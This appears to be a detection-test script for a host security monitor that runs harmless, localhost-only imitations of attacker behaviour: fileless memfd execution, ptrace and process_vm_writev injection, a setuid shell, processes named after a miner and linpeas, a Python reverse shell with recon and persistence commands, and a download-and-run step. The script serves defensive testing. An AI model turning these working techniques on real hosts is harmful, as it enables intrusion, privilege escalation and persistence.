#!/bin/bash
# Harmless versions of what attackers do on a host; everything stays on this machine and is put back.
PATH=/usr/sbin:/usr/bin:/sbin:/bin
export PATH
work=/tmp/tocsin-behaviours
rm -rf $work && mkdir -p $work && cd $work || exit 1

# A program of memory alone.
python3 - <<'PY'
import os
fd = os.memfd_create("quiet")
os.write(fd, open("/bin/true", "rb").read())
os.execv("/proc/self/fd/%d" % fd, ["quiet"])
PY

# Its own memory written by others: process_vm_writev, /proc/PID/mem, ptrace.
cat > inject.c <<'C'
#define _GNU_SOURCE
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <sys/ptrace.h>
#include <sys/syscall.h>
#include <sys/uio.h>
#include <sys/wait.h>
#include <unistd.h>
static long word = 1;
int main(void) {
    pid_t child = fork();
    if (child == 0) { pause(); _exit(0); }
    long other = 2;
    struct iovec here = {&other, sizeof other}, there = {&word, sizeof word};
    process_vm_writev(child, &here, 1, &there, 1, 0);
    char name[64];
    snprintf(name, sizeof name, "/proc/%d/mem", child);
    int memory = open(name, O_WRONLY);
    if (memory >= 0) close(memory);
    if (ptrace(PTRACE_ATTACH, child, 0, 0) == 0) {
        waitpid(child, 0, 0);
        ptrace(PTRACE_POKEDATA, child, &word, 3);
        ptrace(PTRACE_DETACH, child, 0, 0);
    }
    kill(child, SIGKILL);
    waitpid(child, 0, 0);
    ptrace(PTRACE_TRACEME, 0, 0, 0);
    syscall(SYS_userfaultfd, 0);
    return 0;
}
C
gcc -o inject inject.c && ./inject

# A kernel module, which is refused: the file is none.
echo nothing > hello.ko
python3 -c 'import ctypes, os; ctypes.CDLL(None).syscall(313, os.open("hello.ko", os.O_RDONLY), b"", 0)'

# A setuid shell, used by nobody's user.
cp /bin/bash rootsh && chmod 4755 rootsh
chmod 755 $work
python3 -c 'import os; os.setgid(65534); os.setuid(65534); os.execv("/tmp/tocsin-behaviours/rootsh", ["rootsh", "-p", "-c", "true"])'

# Tools by their names, and a miner's command line.
cp /bin/true xmrig && ./xmrig -o stratum+tcp://127.0.0.1:1
cp /bin/true linpeas && ./linpeas

# A reverse shell to this machine itself, and what somebody would type there.
python3 - <<'PY' &
import socket
server = socket.socket()
server.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
server.bind(("127.0.0.1", 14444))
server.listen(1)
peer, _ = server.accept()
peer.sendall(b"""whoami
id
cat /etc/passwd | /usr/bin/head -1
crontab -l
mkdir -p /home/tocsin-test/.ssh; touch /home/tocsin-test/.ssh/authorized_keys; rm -r /home/tocsin-test
/usr/bin/touch /etc/pam.d/tocsin-test; rm /etc/pam.d/tocsin-test
/usr/bin/touch /etc/audit/tocsin-test; rm /etc/audit/tocsin-test
/sbin/usermod --help
/usr/bin/env LD_PRELOAD=/tmp/none.so /bin/true
/bin/chmod u+s /tmp/tocsin-behaviours/none
exit
""")
peer.settimeout(8)
try:
    while peer.recv(65536):
        pass
except OSError:
    pass
PY
listener=$!
sleep 1
python3 - <<'PY'
import os, socket
s = socket.socket()
s.connect(("127.0.0.1", 14444))
for fd in (0, 1, 2):
    os.dup2(s.fileno(), fd)
os.execv("/bin/sh", ["sh"])
PY
wait $listener

# A file from a bare address, run.
mkdir -p web && cp /bin/true web/update && (cd web && exec python3 -m http.server 18080 --bind 127.0.0.1) &
server=$!
sleep 1
curl -s -o $work/update http://127.0.0.1:18080/update
chmod +x $work/update
$work/update
kill $server

# A service that serves the network starts a shell.
cat > nginx.c <<'C'
#include <unistd.h>
int main(void) { return execl("/bin/sh", "sh", (char *)0); }
C
gcc -o nginx nginx.c && echo exit | ./nginx

cd / && rm -rf $work
